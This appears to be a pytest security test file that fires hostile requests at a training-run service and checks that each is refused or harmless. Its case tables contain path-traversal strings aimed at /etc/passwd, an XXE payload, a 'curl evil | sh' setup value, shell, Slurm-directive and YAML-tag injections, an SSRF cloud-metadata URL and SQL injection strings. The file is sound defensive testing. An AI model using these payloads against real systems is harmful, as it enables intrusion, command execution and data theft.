"""Requests to the service by people who mean harm: none is let in, none breaks it, none waits for long."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from kdscale.service.access.sessions import Session
from tests.hostile.nasty import HostileCases
from tests.hostile.service_app import (
    ASK_THEMSELVES,
    MARKUP,
    PUBLIC,
    SECRET,
    Target,
    attacked,
    guarded,
    routes_of,
    scopes_of,
)

CHANGES = ("POST", "PUT", "PATCH", "DELETE")


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    with attacked(tmp_path_factory.mktemp("service") / "home") as target:
        yield target


def test_every_route_asks_for_a_scope(service: Target) -> None:
    for route in routes_of(service.app.routes):
        if route.path in PUBLIC or route.path in ASK_THEMSELVES:
            continue
        scopes = scopes_of(route.dependant)
        assert scopes, f"{route.path}: give it require(scope), or list it in PUBLIC"
        if set(route.methods) & set(CHANGES) and route.path not in ("/v1/runs:validate", "/sign-out"):
            assert scopes & {"run", "admin"}, f"{route.path} changes something: read is not enough"


def test_nobody_gets_in(service: Target, hostile: HostileCases) -> None:
    for route, method, scope in guarded(service):
        path, what = service.path_of(route), f"{method} {route.path}"
        strangers: dict[str, dict[str, str]] = {
            "no token": {}, "another scheme": {"Authorization": "Basic cm9vdDpyb290"},
            "a header from a proxy": {"X-Forwarded-User": "admin", "X-Forwarded-For": "127.0.0.1"},
            "a cookie of another key": {"Cookie": "kdscale=eyJ0IjoiYWRtaW4ifQ.abc.def"},
            **{who: service.bearer(who) for who in ("none", "expired", "revoked")},
        }  # fmt: skip
        if scope != "read":
            strangers["too narrow a scope"] = service.bearer("read" if scope == "run" else "run")
        for who, headers in strangers.items():
            ask = lambda h=headers, m=method, p=path: service.ask(m, p, headers=h)  # noqa: E731
            hostile.run(f"{what}: {who}", ask, must="refuse")
        query = f"{path}?token={service.secrets['admin']}&access_token={service.secrets['admin']}"
        hostile.run(f"{what}: a token in the address", lambda m=method, p=query: service.ask(m, p), must="refuse")


def test_nobody_gets_in_where_no_route_asks(service: Target, hostile: HostileCases) -> None:
    assert set(ASK_THEMSELVES) <= {route.path for route in routes_of(service.app.routes)}
    for path in ASK_THEMSELVES:
        for method in ("GET", "POST", "DELETE", "PUT"):
            strangers: dict[str, dict[str, str]] = {
                "no token": {}, "a cookie": {"Cookie": f"kdscale={service.cookie}"},
                **{who: service.bearer(who) for who in ("none", "expired", "revoked")},
            }  # fmt: skip
            for who, headers in strangers.items():
                ask = lambda h=headers, m=method, p=path: service.ask(m, p, headers=h)  # noqa: E731
                hostile.run(f"{method} {path}: {who}", ask, must="refuse")


def test_no_page_of_another_site_changes_anything(service: Target, hostile: HostileCases) -> None:
    session = service.sessions.read(service.cookie)
    assert session is not None
    text = service.sessions.csrf_token(session)
    other = service.sessions.csrf_token(Session(session.token_id, "another"))
    cases = {
        "no text": {}, "another's text": {"X-CSRF-Token": other}, "an empty text": {"X-CSRF-Token": ""},
        "another origin": {"X-CSRF-Token": text, "Origin": "http://evil.example"},
        "no origin": {"X-CSRF-Token": text, "Origin": "null"},
        "another port": {"X-CSRF-Token": text, "Origin": "http://127.0.0.1:1"},
        "cross-site": {"X-CSRF-Token": text, "Sec-Fetch-Site": "cross-site"},
    }  # fmt: skip
    for route, method, _ in guarded(service):
        if method in CHANGES:
            for name, headers in cases.items():
                sent = {"Cookie": f"kdscale={service.cookie}", **headers}
                path = service.path_of(route)
                ask = lambda h=sent, m=method, p=path: service.ask(m, p, headers=h)  # noqa: E731
                hostile.run(f"{route.path}: {name}", ask, must="refuse")


def test_a_stranger_does_not_learn_which_runs_there_are(service: Target) -> None:
    for route, method, _ in guarded(service):
        if "{run_id}" in route.path:
            path = service.path_of(route)
            known, unknown = (
                service.client.request(method, path),
                service.client.request(method, path.replace(service.run_id, "1hf7yatz8-0000000")),
            )
            assert known.status_code == unknown.status_code, route.path
            assert known.status_code == 401 or known.headers["Location"].startswith("/sign-in"), route.path


RUN_IDS = [
    "%2e%2e", "..%2f..%2fsecret.key", "%00", "a%00b", "%0d%0aSet-Cookie:x", "a" * 3000, "%c0%ae%c0%ae", "%ff",
    "..%5c..", "0123456789-012345", "0123456789abcdef", "'%20OR%20'1'='1", "%3Cscript%3E", "%E2%80%AE", "~root",
    "$(id)", "%s%n", "{}", "-", "con", "0",
]  # fmt: skip


def test_ids_that_are_none(service: Target, hostile: HostileCases) -> None:
    for route, method, _ in guarded(service):
        if "{run_id}" in route.path:
            for run_id in RUN_IDS:
                path = service.path_of(route).replace(service.run_id, run_id)
                ask = lambda m=method, p=path: service.ask(m, p, headers=service.bearer("admin"))  # noqa: E731
                hostile.run(f"{method} {route.path}: {run_id[:40]}", ask, must="refuse" if "/" not in run_id else "")


PATHS = [
    "../first-token", "../../first-token", "%2e%2e/%2e%2e/first-token", "..%2f..%2ffirst-token", "....//first-token",
    "logs/../../../first-token", "logs/%2e%2e/%2e%2e/%2e%2e/first-token", "/etc/passwd", "//etc/passwd",
    "%2fetc%2fpasswd", "..\\..\\first-token", "..%5c..%5cfirst-token", "C:\\x", "C:/x", "~/x", "config.yaml%00",
    "%00", "config.yaml/x",
    "link", "link-to-home",
    "link-to-home/first-token", "link-to-home/secret.key", "loop", "zero", "pipe",
    "teacher.token", "./teacher.token", "logs/../teacher.token", "file:%2f%2f%2fetc%2fpasswd", "a" * 3000, "%ff%fe",
    "%c0%ae%c0%ae/x",
    ".lock", "nothing", "/".join(["a"] * 500), "%252e%252e%252ffirst-token", "config.yaml%0d%0aX: y",
]  # fmt: skip


def test_paths_that_lead_out(service: Target, hostile: HostileCases) -> None:
    for path in PATHS:
        for query in ("", "?download=tar"):
            address = f"/v1/runs/{service.run_id}/artifacts/{path}{query}"
            ask = lambda a=address: service.ask("GET", a, headers=service.bearer("admin"))  # noqa: E731
            hostile.run(f"{path[:60]}{query}", ask, must="refuse")
    whole = service.ask(
        "GET", f"/v1/runs/{service.run_id}/artifacts/logs?download=tar", headers=service.bearer("read")
    ).content
    assert SECRET.encode() not in whole


def deep(levels: int) -> bytes:
    return b'{"config": ' + b"[" * levels + b"]" * levels + b"}"


BODIES: dict[str, bytes] = {
    "empty": b"", "text": b"x", "cut": b'{"config": {', "utf-8": b'{"name": "\xff"}',
    "utf-16": '{"a":1}'.encode("utf-16"), "bom": b"\xef\xbb\xbf{}", "nul": b'{"name": "\x00"}', "list": b"[]",
    "number": b"1",
    "null": b"null", "nan": b"NaN",
    "twice": b'{"config_name": "demo", "config_name": "quick"}', "deep": deep(100), "deeper": deep(100_000),
    "braces": b'{"a":' * 50_000, "digits": b'{"priority": ' + b"9" * 50_000 + b"}", "exponent": b'{"priority": 1e999}',
    "nan inside": b'{"config": {"seed": NaN}}', "infinity": b'{"config": {"seed": Infinity}}',
    "surrogate": b'{"name": "\\ud800"}',
    "large": b'{"name": "' + b"x" * (1 << 20) + b'"}', "keys": json.dumps({f"k{n}": n for n in range(5000)}).encode(),
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
}  # fmt: skip
SUBMISSIONS: dict[str, dict[str, Any]] = {
    "nothing": {},
    "both": {"config": {}, "config_name": "demo"},
    "unknown key": {"config_name": "demo", "admin": True},
    "owner": {"config_name": "demo", "owner": "admin"},
    "state": {"config_name": "demo", "state": "succeeded"},
    "folder": {"config_name": "demo", "folder": "/etc"},
    "id": {"config_name": "demo", "id": "x"},
    "config by path": {"config_name": "/etc/passwd"},
    "config above": {"config_name": "../../first-token"},
    "config by nul": {"config_name": "demo\x00"},
    "config of home": {"config_name": "serve.yaml"},
    "name with a line": {"config_name": "demo", "name": "a\nid: 7"},
    "name with markup": {"config_name": "demo", "name": MARKUP},
    "name up": {"config_name": "demo", "name": "../x"},
    "name for a shell": {"config_name": "demo", "name": "$(id)"},
    "long name": {"config_name": "demo", "name": "x" * 101},
    "priority": {"config_name": "demo", "priority": 10**9},
    "priority as text": {"config_name": "demo", "priority": "1"},
    "set no list": {"config_name": "demo", "set": "a=b"},
    "set no setting": {"config_name": "demo", "set": ["a"]},
    "set many": {"config_name": "demo", "set": ["seed=1"] * 501},
    "set long": {"config_name": "demo", "set": ["distill.tokens=" + "1" * 15_000] * 3},
    "set run_dir": {"config_name": "demo", "set": ["run_dir=/etc"]},
    "set  run_dir": {"config_name": "demo", "set": [" run_dir =/etc"]},
    "set bomb": {"config_name": "demo", "set": ["seed=&a [*a,*a]"]},
    "set tag": {"config_name": "demo", "set": ["seed=!!python/name:os.system"]},
    "trust": {"config_name": "demo", "set": ["teacher.trust_remote_code=true"]},
    "teacher outside": {"config_name": "demo", "set": ["teacher.path=/etc"]},
    "teacher in home": {"config_name": "demo", "set": ["teacher.path=.."]},
    "data": {"config_name": "demo", "set": ['data.sources=[{path: "/etc/*"}]']},
    "nvme": {
        "config_name": "demo",
        "set": ["distill.zero_stage=3", "distill.zero={offload_optimizer: nvme, nvme_path: /etc}"],
    },
    "server": {"config_name": "demo", "set": ["distill.served.urls=[http://169.254.169.254]"]},
    "credentials": {"config_name": "demo", "set": ["tracking.mlflow={uri: 'http://u:p@host/'}"]},
    "merge key": {"config": {"__proto__": {"a": 1}}},
    "config no mapping": {"config": "demo"},
    "target no mapping": {"config_name": "demo", "target": "x"},
    "engine": {"config_name": "demo", "target": {"engine": "os.system"}},
    "engine up": {"config_name": "demo", "target": {"engine": "../x"}},
    "hostfile": {"config_name": "demo", "target": {"engine": "hosts", "hostfile": "/etc/passwd"}},
    "ssh": {"config_name": "demo", "target": {"engine": "hosts", "ssh_command": "touch /tmp/x"}},
    "partition": {"config_name": "demo", "target": {"engine": "slurm", "partition": "a\n#SBATCH --uid=root"}},
    "time": {"config_name": "demo", "target": {"engine": "slurm", "time": "1\n#SBATCH --uid=root"}},
    "extra": {"config_name": "demo", "target": {"engine": "slurm", "extra": ["wrap=id"]}},
    "image": {"config_name": "demo", "target": {"engine": "kubernetes", "image": "evil"}},
    "cpu": {"config_name": "demo", "target": {"engine": "kubernetes", "cpu": "1\nhostNetwork: true"}},
    "volume": {"config_name": "demo", "target": {"engine": "kubernetes", "volumes": {"x": "/"}}},
    "setup": {"config_name": "demo", "target": {"engine": "skypilot", "setup": "curl evil | sh"}},
    "infra": {"config_name": "demo", "target": {"engine": "skypilot", "infra": "a\nb: c"}},
    "python": {"config_name": "demo", "target": {"engine": "local", "python": "/tmp/evil"}},
}


def test_bodies(service: Target, hostile: HostileCases) -> None:
    headers = {**service.bearer("run"), "Content-Type": "application/json"}
    before = service.app.state.runs.counts()
    for address in ("/v1/runs", f"/v1/runs/{service.run_id}/rerun"):
        for name, body in BODIES.items():
            if not (name == "empty" and "rerun" in address):
                ask = lambda b=body, a=address: service.ask("POST", a, content=b, headers=headers)  # noqa: E731
                hostile.run(f"{address}: {name}", ask, must="refuse")
    for name, tree in SUBMISSIONS.items():
        ask = lambda t=tree: service.ask("POST", "/v1/runs", json=t, headers=service.bearer("run"))  # noqa: E731
        hostile.run(f"submit: {name}", ask, must="refuse")
    for kind in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "a/b;\x0b",
        "x" * 999,
    ):
        sent = {**headers, "Content-Type": kind}
        ask = lambda h=sent: service.ask("POST", "/v1/runs", content=b'{"config_name": "demo"}', headers=h)  # noqa: E731
        hostile.run(f"type: {kind[:40]}", ask, must="refuse")
    assert service.app.state.runs.counts() == before


def test_keys_of_requests(service: Target, hostile: HostileCases) -> None:
    for key in ("", " ", "a b", "x" * 201, "é".encode(), b"\xff"):
        sent = [*service.bearer("run").items(), ("Idempotency-Key", key)]
        ask = lambda h=sent: service.ask("POST", "/v1/runs", json={"config_name": "demo"}, headers=h)  # noqa: E731
        hostile.run(f"key {key!r:.40}", ask, must="refuse")
    # one person's key is not another's, and an answer is not given to another request
    again = f"/v1/runs/{service.add_run('run')}/rerun"
    body = {"set": ["teacher.path=hf:a/b"]}
    for who in ("run", "admin"):
        first = service.ask("POST", again, json=body, headers={**service.bearer(who), "Idempotency-Key": "k"}).json()
        assert first["owner"] == who
    hostile.run(
        "another request",
        lambda: service.ask(
            "POST", again, json={"set": ["seed=2"]}, headers={**service.bearer("run"), "Idempotency-Key": "k"}
        ),
        must="refuse",
    )


QUERIES = {
    "/v1/runs": [
        "limit=0", "limit=-1", "limit=1e9", f"limit={10**30}", "limit=x", "after=x", "after=%00", "state=x",
        "owner=%00",
        "search=%25_%5c%27", f"search={'x' * 3000}", "search=%ff", "state=running&state=%00",
        "search=';drop table runs--",
    ],
    "/v1/runs/{}/events": ["after=-1", f"after={10**30}", "after=x", "limit=0", "limit=99999999", "after=1.5"],
    "/v1/events": ["after=-1", f"after={10**30}", "limit=-5"],
    "/v1/runs/{}/metrics": [
        "since_step=-1", "since_step=NaN", f"since_step={10**30}", "max_points=0", "max_points=-1",
        f"max_points={10**12}",
        f"names={'x' * 3000}", "names=../..", "names=%00",
    ],
    "/v1/runs/{}/logs": [
        "rank=-1", "rank=../x", f"rank={10**30}", "tail=-1", f"tail={10**30}", "attempt=0", "attempt=-1",
        "attempt=../../x",
    ],
    "/v1/runs/{}/artifacts": ["under=..", "under=/etc", "under=%00", "under=link-to-home", "limit=0"],
    "/v1/compare": ["runs=", "runs=..", "runs=%00", f"runs={'a,' * 900}", "", "runs=../../etc/passwd"],
    "/v1/configs/..%2f..%2ffirst-token": [""],
    "/v1/configs/%2e%2e": [""],
}  # fmt: skip
ALLOWED = {  # odd, and harmless: nothing is found
    "owner=%00", "search=%25_%5c%27", "search=%ff", "search=';drop table runs--", "names=../..", "names=%00",
}  # fmt: skip


def test_queries(service: Target, hostile: HostileCases) -> None:
    for path, queries in QUERIES.items():
        for query in queries:
            address = f"{path.format(service.run_id)}?{query}"
            ask = lambda a=address: service.ask("GET", a, headers=service.bearer("read"))  # noqa: E731
            hostile.run(f"{path}?{query[:60]}", ask, must="" if query in ALLOWED else "refuse")


HEADERS: list[tuple[str, dict[str, Any], str]] = [
    ("another host", {"Host": "evil.example"}, "refuse"),
    ("no host", {"Host": ""}, "refuse"),
    ("a host with a path", {"Host": "127.0.0.1:8765/evil"}, "refuse"),
    ("forwarded host", {"X-Forwarded-Host": "evil.example"}, ""),
    ("huge", {"X": "x" * 40_000}, "refuse"),
    ("a negative length", {"Content-Length": "-1"}, "refuse"),
    ("ranges", {"Range": "bytes=" + ",".join(["0-"] * 1000)}, ""),
    ("a range behind the end", {"Range": "bytes=99999999999-"}, "refuse"),
    ("a range of text", {"Range": "bytes=a-b"}, ""),
    ("a negative range", {"Range": "bytes=--1"}, ""),
    ("a huge range", {"Range": f"bytes=0-{10**30}"}, ""),
    ("another unit", {"Range": "lines=0-1"}, ""),
    ("tags", {"If-None-Match": "*, \"x" * 500}, ""),
    ("dates", {"If-Modified-Since": "x", "If-Range": "\xff"}, ""),
    ("accept", {"Accept": "," * 5000}, ""),
    ("languages", {"Accept-Language": "x" * 5000}, ""),
    ("a request id", {"X-Request-ID": "a\x1b[2Jb" + "x" * 500}, ""),
    ("another method", {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "DELETE", "X-Method-Override": "PUT"}, ""),
    ("upgrade", {"Upgrade": "websocket", "Connection": "Upgrade"}, ""),
]  # fmt: skip


def test_headers(service: Target, hostile: HostileCases) -> None:
    addresses = ("/v1/runs", f"/v1/runs/{service.run_id}/artifacts/config.yaml", f"/v1/runs/{service.run_id}/logs")
    for address in addresses:
        for name, headers, must in HEADERS:
            sent = [(key, value.encode("latin-1")) for key, value in {**service.bearer("read"), **headers}.items()]
            if not ("range" in name and "config" not in address):
                ask = lambda h=sent, a=address: service.ask("GET", a, headers=h)  # noqa: E731
                hostile.run(f"{address}: {name}", ask, must=must)
    for method in ("TRACE", "CONNECT", "DEBUG", "PROPFIND", "DELETE", "PUT", "PATCH", "x" * 50):
        ask = lambda m=method: service.ask(m, f"/v1/runs/{service.run_id}", headers=service.bearer("admin"))  # noqa: E731
        hostile.run(f"method {method[:20]}", ask, must="refuse")


def test_another_owners_run(service: Target, hostile: HostileCases) -> None:
    for what in ("pause", "resume", "cancel"):
        path = f"/v1/runs/{service.run_id}/{what}"
        hostile.run(what, lambda p=path: service.ask("POST", p, headers=service.bearer("run")), must="refuse")
    assert service.app.state.runs.get(service.run_id).state == "queued"


def test_what_others_wrote_is_shown_as_text(service: Target) -> None:
    log = service.ask("GET", f"/v1/runs/{service.run_id}/logs", headers=service.bearer("read"))
    assert "\x1b" not in log.text
    assert "y" * 43 not in log.text
    assert log.headers["Content-Type"].startswith("text/plain")
    listed = service.ask("GET", f"/v1/runs/{service.run_id}/events", headers=service.bearer("read"))
    assert listed.headers["Content-Type"] == "application/json"


def test_the_service_still_works(service: Target) -> None:
    assert service.ask("GET", "/healthz").status_code == 200
    listed = service.ask("GET", "/v1/runs", headers=service.bearer("read")).json()["items"]
    assert service.run_id in {run["id"] for run in listed}
    audited = service.app.state.accounts.audit_log(limit=1000)
    stops = [entry for entry in audited if entry.action.endswith("/cancel") and entry.run_id == service.run_id]
    assert {entry.detail["status"] for entry in stops} == {403}
